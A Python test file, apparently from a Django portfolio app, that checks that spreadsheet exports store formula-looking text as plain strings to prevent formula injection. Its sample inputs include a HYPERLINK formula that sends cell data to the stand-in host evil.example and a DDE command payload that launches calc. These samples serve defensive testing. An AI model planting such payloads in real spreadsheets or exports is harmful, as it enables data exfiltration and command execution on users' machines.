"""Exports never turn text into formulas (formula injection), headings included."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from gevinst.core.excel import xlsx_bytes
from gevinst.core.scoping import tenant_scope
from gevinst.portfolio.models import Initiative

DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
             "\tTab", "\rReturn", "=1+1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_text_that_looks_like_a_formula_is_written_as_text():
    data = xlsx_bytes("Sheet", ["=Heading", "Plain"], [[text, "x"] for text in DANGEROUS])
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    cells = re.findall(r'<c r="A\d+"[^>]*>', xml)
    assert cells and all('t="s"' in c for c in cells)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows[0][0] == "=Heading"
    assert [r[0] for r in rows[1:]] == DANGEROUS


@pytest.mark.django_db
def test_an_initiative_titled_like_a_formula_exports_as_text(client_as, org, people):
    from gevinst.portfolio.services.initiatives import do_create_initiative

    title = '=HYPERLINK("http://evil.example","Open")'
    with tenant_scope(org):
        do_create_initiative(actor=people["pmo"], organisation=org, title=title,
                             problem="@cmd|' /C calc'!A0")
        assert Initiative.objects.filter(organisation=org, title=title).exists()
    response = client_as("viewer").get("/o/fjordby/initiatives/export.xlsx")
    assert response.status_code == 200
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml and "HYPERLINK" not in xml  # not inline: a shared string
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)) \
        .get_sheet_by_index(0).to_python()
    titles = [r[1] for r in rows]
    assert title in titles
    assert "@cmd|' /C calc'!A0" in [r[11] for r in rows]
